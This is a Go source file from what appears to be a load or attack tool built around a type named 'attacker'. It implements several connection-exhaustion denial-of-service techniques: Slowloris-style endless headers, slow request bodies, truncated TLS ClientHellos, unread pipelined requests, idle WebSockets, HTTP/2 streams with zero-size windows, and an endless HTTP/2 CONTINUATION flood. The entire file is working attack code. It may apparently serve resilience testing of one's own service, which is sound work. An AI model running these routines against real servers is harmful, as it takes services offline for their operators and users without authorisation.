package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"net/netip"
	"strings"
	"time"
)

const (
	renewal  = 5 * time.Second // between requests, below the server's timeout
	trickle  = time.Second     // between bytes of headers and bodies that never end
	pipeline = 25              // requests that a slow reader sends at once
)

// keepAlive keeps connections to HTTP and HTTPS open with a request now and then.
func keepAlive(ctx context.Context, a *attacker) {
	a.repeat(ctx, a.each, func(ctx context.Context, source netip.Addr, i int) {
		c, err := a.web(ctx, source, i%2 == 1)
		if err != nil {
			return
		}
		defer c.end()
		for {
			_, err := io.WriteString(c, "GET /x HTTP/1.1\r\nHost: "+c.RemoteAddr().String()+"\r\n\r\n")
			if err != nil || !answered(c) {
				return
			}
			a.opened.Add(1)
			if !pause(ctx, renewal) {
				return
			}
		}
	})
}

// answered reads once, and reports whether something came.
func answered(c net.Conn) bool {
	buffer := make([]byte, 4096)
	_ = c.SetReadDeadline(time.Now().Add(dialWait))
	n, _ := c.Read(buffer)
	return n > 0
}

func (a *attacker) web(ctx context.Context, source netip.Addr, secure bool) (*conn, error) {
	if secure {
		return a.dialTLS(ctx, source, a.ports.https, "http/1.1")
	}
	return a.dial(ctx, source, a.ports.http)
}

// unfinished starts handshakes and requests and does not finish them, each connection in
// a different way.
func unfinished(ctx context.Context, a *attacker) {
	all := []func(context.Context, *attacker, netip.Addr){silence, hello, headers, bodies, readers, upgrades}
	a.repeat(ctx, a.each, func(ctx context.Context, source netip.Addr, i int) { all[i%len(all)](ctx, a, source) })
}

// silence connects and sends nothing.
func silence(ctx context.Context, a *attacker, source netip.Addr) {
	for _, port := range []int{a.ports.http, a.ports.https} {
		c, err := a.dial(ctx, source, port)
		if err != nil {
			continue
		}
		a.opened.Add(1)
		defer c.end()
		defer untilClosed(c)
	}
}

// untilClosed waits for the server to close.
func untilClosed(c net.Conn) { _, _ = io.Copy(io.Discard, c) }

// hello sends the first bytes of a ClientHello.
func hello(ctx context.Context, a *attacker, source netip.Addr) {
	c, err := a.dial(ctx, source, a.ports.https)
	if err != nil {
		return
	}
	defer c.end()
	a.opened.Add(1)
	_, _ = c.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3})
	untilClosed(c)
}

// headers sends a request with headers that never end.
func headers(ctx context.Context, a *attacker, source netip.Addr) {
	slowly(ctx, a, source, "GET / HTTP/1.1\r\nHost: x\r\nX: ")
}

// bodies sends a request with a body that never ends.
func bodies(ctx context.Context, a *attacker, source netip.Addr) {
	slowly(ctx, a, source, "POST /api/v1/frames HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer x\r\nContent-Length: 65536\r\n\r\n")
}

func slowly(ctx context.Context, a *attacker, source netip.Addr, begin string) {
	c, err := a.web(ctx, source, true)
	if err != nil {
		return
	}
	defer c.end()
	a.opened.Add(1)
	for text := begin; ; text = "y" {
		if _, err := io.WriteString(c, text); err != nil || !pause(ctx, trickle) {
			return
		}
	}
}

// readers sends many requests and reads no responses.
func readers(ctx context.Context, a *attacker, source netip.Addr) {
	c, err := a.web(ctx, source, false)
	if err != nil {
		return
	}
	defer c.end()
	if raw, ok := c.Conn.(*net.TCPConn); ok {
		_ = raw.SetReadBuffer(4 << 10)
	}
	a.opened.Add(1)
	for {
		_, err := io.WriteString(c, strings.Repeat("GET / HTTP/1.1\r\nHost: "+c.RemoteAddr().String()+"\r\n\r\n", pipeline))
		if err != nil || !pause(ctx, renewal) {
			return
		}
	}
}

// upgrades opens WebSockets that join no room.
func upgrades(ctx context.Context, a *attacker, source netip.Addr) {
	s, err := a.webSocket(ctx, source, false)
	if err != nil {
		return
	}
	defer s.end()
	a.opened.Add(1)
	untilClosed(s)
}

const (
	h2Streams = 250
	h2Header  = 2000 // bytes in each stream's headers
)

// streams opens HTTP/2 connections whose streams have no window for responses.
func streams(ctx context.Context, a *attacker) {
	a.repeat(ctx, max(1, a.each/4), func(ctx context.Context, source netip.Addr, i int) {
		c, err := a.dialTLS(ctx, source, a.ports.https, "h2")
		if err != nil {
			return
		}
		defer c.end()
		a.opened.Add(1)
		if _, err := c.Write([][]byte{h2Requests(0x82, 5), h2Requests(0x83, 4), h2Endless()}[i%3]); err == nil {
			untilClosed(c)
		}
	})
}

// h2Requests returns the bytes of a connection with windows of 0 and requests (RFC 9113,
// RFC 7541). method is its index in HPACK's static table: GET, or POST with a body that
// never comes. flags are those of HEADERS.
func h2Requests(method, flags byte) []byte {
	b := h2Preface()
	block := []byte{method, 0x87, 0x84, 0x01, 1, 'x'} // method, https, /, :authority x
	block = append(block, 0x00, 5)
	block = append(block, "x-pad"...)
	block = append(block, 0x7f, (h2Header-127)&0x7f|0x80, (h2Header-127)>>7)
	block = append(block, strings.Repeat("y", h2Header)...)
	for i := range h2Streams {
		h2Frame(b, 1, flags, 2*i+1, block)
	}
	return b.Bytes()
}

// h2Endless returns a request with headers that never end.
func h2Endless() []byte {
	b := h2Preface()
	block := append([]byte{0x82, 0x87, 0x84, 0x01, 1, 'x', 0x00, 5}, "x-pad"...)
	block = append(append(block, 0x7f, 0x80, 0x80, 0x7f), strings.Repeat("y", 8<<10)...) // a value of 2 MiB
	h2Frame(b, 1, 0, 1, block)
	for range 128 {
		h2Frame(b, 9, 0, 1, block[:8<<10]) // CONTINUATION
	}
	return b.Bytes()
}

// h2Preface returns the preface of a connection with windows of 0.
func h2Preface() *bytes.Buffer {
	b := bytes.NewBufferString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	h2Frame(b, 4, 0, 0, []byte{0, 4, 0, 0, 0, 0}) // SETTINGS_INITIAL_WINDOW_SIZE
	return b
}

func h2Frame(b *bytes.Buffer, kind, flags byte, stream int, payload []byte) {
	head := binary.BigEndian.AppendUint32(nil, uint32(len(payload))<<8|uint32(kind)) //nolint:gosec // G115: it is a few kilobytes
	head = binary.BigEndian.AppendUint32(append(head, flags), uint32(stream))        //nolint:gosec // G115: it is at most twice h2Streams
	b.Write(head)
	b.Write(payload)
}
